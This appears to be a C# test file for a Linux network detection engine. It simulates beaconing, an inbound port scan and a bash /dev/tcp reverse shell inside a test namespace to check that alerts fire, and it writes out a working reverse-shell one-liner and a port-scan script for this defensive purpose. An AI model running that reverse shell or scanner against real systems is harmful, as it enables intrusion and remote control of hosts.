using System.Net;
using System.Net.Sockets;
using Atalaya.Core.Analytics;
using Atalaya.Core.Analytics.Network;
using Atalaya.Core.Detection;
using Atalaya.Core.Pipeline;
using Atalaya.Core.Schema;
using Atalaya.Core.Scoring;
using Atalaya.Platform.Linux.Network.SockDiag;
using Atalaya.TestKit;
using Xunit.Abstractions;

namespace Atalaya.Platform.Linux.Tests.Network;

[CollectionDefinition(Name, DisableParallelization = true)]
public sealed class NetworkScenarioCollection
{
    public const string Name = "network scenarios";
}

/// <summary>
/// Attacker shapes on the real kernel, through the real sock_diag collector and the detection
/// engine with the shipped analytics: a beacon, an inbound scan and a reverse shell against a fake
/// public host (198.51.100.10) in a network namespace the test creates, and a benign local web
/// server. Run alone (one collection) so other tests' sockets do not mix in; bounded in time.
/// Without root or netns support the namespace tests skip with the reason.
/// </summary>
[Collection(NetworkScenarioCollection.Name)]
public sealed class NetworkDetectionScenarioTests(ITestOutputHelper output)
{
    private const string ServerScript = """
        import socket, sys, threading, time
        mode, port = sys.argv[1], int(sys.argv[2])
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("0.0.0.0", port))
        listener.listen(128)
        print("ready", flush=True)
        def serve(conn):
            try:
                if mode == "hold":
                    time.sleep(60)
                while mode != "hold":
                    data = conn.recv(4096)
                    if not data:
                        break
                    conn.sendall(b"k" * 64)
            finally:
                conn.close()
        while True:
            conn, _ = listener.accept()
            threading.Thread(target=serve, args=(conn,), daemon=True).start()
        """;

    private const string ScanScript = """
        import socket, sys
        for port in map(int, sys.argv[2:]):
            s = socket.socket()
            s.settimeout(2)
            try:
                s.connect((sys.argv[1], port))
            except OSError:
                pass
            s.close()
        print("done", flush=True)
        """;

    private static NetworkNamespace NewNamespace(ITestOutputHelper output)
    {
        var ns = new NetworkNamespace();
        if (ns.UnavailableReason is { } reason)
        {
            ns.Dispose();
            output.WriteLine($"skipped: cannot create a network namespace: {reason}");
            Skip.If(true, $"cannot create a network namespace: {reason}");
        }

        return ns;
    }

    private static async Task WaitForOutputAsync(SpawnedProcess process, string text) =>
        await Eventually.WaitForAsync(() => process.StandardOutput.Contains(text, StringComparison.Ordinal) || process.HasExited, ready => ready);

    [SkippableFact]
    public async Task A_client_connecting_every_half_second_with_jitter_is_reported_as_beaconing()
    {
        using var ns = NewNamespace(output);
        using var server = ns.Start("python3", ["-c", ServerScript, "serve", "18080"]);
        await WaitForOutputAsync(server, "ready");
        await using var harness = await DetectionHarness.StartAsync();

        var random = new Random(11);
        for (var i = 0; i < 24; i++)
        {
            using (var client = new TcpClient())
            {
                await client.ConnectAsync(IPAddress.Parse(NetworkNamespace.PeerAddress), 18080);
                await client.GetStream().WriteAsync(new byte[100]);
                await client.GetStream().ReadExactlyAsync(new byte[64]);

                // Held past a few 50 ms inventories so the connection is seen with its owner: without
                // the audit sensor's connect hints, a connection that lives only between two dumps
                // reaches the analytics with no process (see SockDiagConnectionCollector). 150 ms was
                // one missed dump too few when the other test assemblies loaded both cores in CI.
                await Task.Delay(300);
            }

            await Task.Delay(200 + random.Next(-20, 21));
        }

        var alert = await harness.WaitForAlertAsync(BeaconingAnalytic.AnalyticId);
        output.WriteLine(alert?.Atalaya?.Evidence?[0].Detail ?? "no alert");
        Assert.NotNull(alert);
        var detail = alert.Atalaya!.Evidence![0].Detail;
        Assert.Contains($"connects to {NetworkNamespace.PeerAddress} port 18080 every 0.", detail, StringComparison.Ordinal);
        Assert.Contains("sending 100 ± 0 bytes each time", detail, StringComparison.Ordinal);
        Assert.Equal(Environment.ProcessId, alert.Process?.Pid);
    }

    [SkippableFact]
    public async Task A_burst_of_connections_to_thirty_ports_from_the_namespace_is_an_inbound_scan()
    {
        using var ns = NewNamespace(output);
        var listeners = new List<TcpListener>();
        try
        {
            for (var i = 0; i < 30; i++)
            {
                var listener = new TcpListener(IPAddress.Parse(NetworkNamespace.HostAddress), 0);
                listener.Start();
                listeners.Add(listener);
                _ = AcceptAndCloseAsync(listener);
            }

            await using var harness = await DetectionHarness.StartAsync();
            var ports = listeners.Select(l => ((IPEndPoint)l.LocalEndpoint).Port.ToString(System.Globalization.CultureInfo.InvariantCulture));
            using var scanner = ns.Start("python3", ["-c", ScanScript, NetworkNamespace.HostAddress, .. ports]);
            await WaitForOutputAsync(scanner, "done");

            var alert = await harness.WaitForAlertAsync(InboundScanAnalytic.AnalyticId);
            output.WriteLine(alert?.Atalaya?.Evidence?[0].Detail ?? "no alert");
            Assert.NotNull(alert);
            Assert.Equal($"source.ip:{NetworkNamespace.PeerAddress}", alert.Atalaya?.EntityKey);
            Assert.Contains("T1046", alert.Threat?.Technique?.Id ?? []);
        }
        finally
        {
            foreach (var listener in listeners)
            {
                listener.Dispose();
            }
        }
    }

    [SkippableFact]
    public async Task A_shell_whose_stdin_and_stdout_are_a_tcp_connection_is_a_reverse_shell()
    {
        using var ns = NewNamespace(output);
        using var server = ns.Start("python3", ["-c", ServerScript, "hold", "4444"]);
        await WaitForOutputAsync(server, "ready");
        await using var harness = await DetectionHarness.StartAsync();

        // The attacker's payload, exactly as typed on a compromised host: bash's /dev/tcp
        // redirection puts the connection on the new shell's stdin, stdout and stderr.
        using var shell = SpawnedProcess.Start("bash", ["-c", $"exec bash -i 0<>/dev/tcp/{NetworkNamespace.PeerAddress}/4444 1>&0 2>&0"]);

        var alert = await harness.WaitForAlertAsync(ReverseShellAnalytic.AnalyticId);
        output.WriteLine(alert?.Atalaya?.Evidence?[0].Detail ?? "no alert");
        Assert.NotNull(alert);
        Assert.Equal(shell.Pid, alert.Process?.Pid);
        Assert.Contains("T1059.004", alert.Threat?.Technique?.Id ?? []);
        Assert.True(alert.Event.RiskScore >= 75);
    }

    [SkippableFact]
    public async Task A_local_web_server_answering_a_few_requests_raises_nothing_at_medium_or_above()
    {
        using var directory = new TempDirectory();
        int port;
        using (var probe = new TcpListener(IPAddress.Loopback, 0))
        {
            probe.Start();
            port = ((IPEndPoint)probe.LocalEndpoint).Port;
        }

        await using var harness = await DetectionHarness.StartAsync();
        using var server = SpawnedProcess.Start("python3", ["-m", "http.server", "--bind", "127.0.0.1", port.ToString(System.Globalization.CultureInfo.InvariantCulture)], directory.Path, redirectOutput: true);
        using var http = new HttpClient { Timeout = TimeSpan.FromSeconds(5) };
        var ok = 0;
        for (var attempt = 0; attempt < 100 && ok < 5; attempt++)
        {
            try
            {
                using var response = await http.GetAsync(new Uri($"http://127.0.0.1:{port}/"));
                ok += response.IsSuccessStatusCode ? 1 : 0;
            }
            catch (HttpRequestException)
            {
                await Task.Delay(100);
            }
        }

        Assert.Equal(5, ok);
        await Task.Delay(1500);
        var seen = harness.Events(e => e.Network?.Direction == "listening" && e.Source?.Port == port);
        Assert.NotEmpty(seen);
        // Only alerts about the server or its port: the harness sees the whole host, where other
        // test assemblies run their own attack simulations at the same time.
        var loud = harness.Alerts(a => a.Event.RiskScore >= 50
            && (a.Process?.Pid == server.Pid || a.Source?.Port == port || a.Destination?.Port == port));
        foreach (var alert in loud)
        {
            output.WriteLine($"{alert.Rule?.Id}: {alert.Atalaya?.Summary}");
        }

        Assert.Empty(loud);
    }

    private static async Task AcceptAndCloseAsync(TcpListener listener)
    {
        try
        {
            while (true)
            {
                using var accepted = await listener.AcceptTcpClientAsync();
            }
        }
        catch (Exception ex) when (ex is ObjectDisposedException or SocketException or InvalidOperationException)
        {
        }
    }

    /// <summary>The sock_diag collector at a 50 ms interval feeding a detection engine with the shipped analytics.</summary>
    private sealed class DetectionHarness : IEventPublisher, IAsyncDisposable
    {
        private readonly Lock _gate = new();
        private readonly List<EcsEvent> _events = [];
        private readonly List<EcsEvent> _alerts = [];
        private readonly List<EcsEvent> _scratch = [];
        private readonly DetectionEngine _engine;
        private readonly SockDiagConnectionCollector _collector;
        private readonly CancellationTokenSource _stop = new();
        private Task _run = Task.CompletedTask;

        private DetectionHarness(SockDiagConnectionCollector collector)
        {
            var root = RepositoryRoot();
            var binaries = SystemBinaryCatalog.Parse(File.ReadAllText(Path.Combine(root, "rules", "catalogs", "system-binaries.yml")));
            var ports = PortCatalog.Parse(File.ReadAllText(Path.Combine(root, "rules", "catalogs", "ports.yml")));
            var processes = ProcessBehaviourCatalog.Parse(File.ReadAllText(Path.Combine(root, "rules", "catalogs", "process-behaviour.yml")));
            _engine = new DetectionEngine(
                // Starts of connections seen by a 50 ms inventory carry the poll's scheduling delay; on a
                // loaded 2-core machine that smears a 0.5 s beacon by up to ±0.3 s now and then, so the
                // test uses a lower regularity threshold than the default 0.85.
                BuiltInAnalytics.Create(binaries, processes, ports, new BeaconingOptions { MinimumConnections = 20, Threshold = 0.7 }, new ScanOptions()),
                new RiskScorer(),
                TimeProvider.System);
            _collector = collector;
        }

        public static async Task<DetectionHarness> StartAsync()
        {
            var collector = SockDiagConnectionCollector.TryCreate(new SockDiagConnectionCollectorOptions { Interval = TimeSpan.FromMilliseconds(50) }, TimeProvider.System, null, out var reason);
            Skip.If(collector is null, $"sock_diag unavailable: {reason}");
            var harness = new DetectionHarness(collector!);
            harness._run = collector!.RunAsync(harness, harness._stop.Token);
            await Eventually.WaitForAsync(() => collector.Counters.Get("snapshots"), n => n >= 2);
            return harness;
        }

        public void Publish(EcsEvent value)
        {
            lock (_gate)
            {
                _events.Add(value);
                _scratch.Clear();
                _engine.Process(value, _scratch);
                _alerts.AddRange(_scratch);
            }
        }

        public IReadOnlyList<EcsEvent> Events(Func<EcsEvent, bool> match)
        {
            lock (_gate)
            {
                return [.. _events.Where(match)];
            }
        }

        public IReadOnlyList<EcsEvent> Alerts(Func<EcsEvent, bool> match)
        {
            lock (_gate)
            {
                return [.. _alerts.Where(match)];
            }
        }

        public async Task<EcsEvent?> WaitForAlertAsync(string analyticId) =>
            await Eventually.WaitForAsync(
                () => Alerts(a => a.Atalaya?.Evidence?.Any(e => e.Signal == analyticId) == true || a.Rule?.Id == analyticId) is [var first, ..] ? first : null,
                a => a is not null,
                attempts: 150);

        public async ValueTask DisposeAsync()
        {
            await _stop.CancelAsync();
            await _run.WaitAsync(TimeSpan.FromSeconds(30));
            _collector.Dispose();
            _stop.Dispose();
        }

        private static string RepositoryRoot()
        {
            var dir = new DirectoryInfo(AppContext.BaseDirectory);
            while (dir is not null && !File.Exists(Path.Combine(dir.FullName, "Atalaya.slnx")))
            {
                dir = dir.Parent;
            }

            return dir?.FullName ?? throw new InvalidOperationException("repository root not found");
        }
    }
}
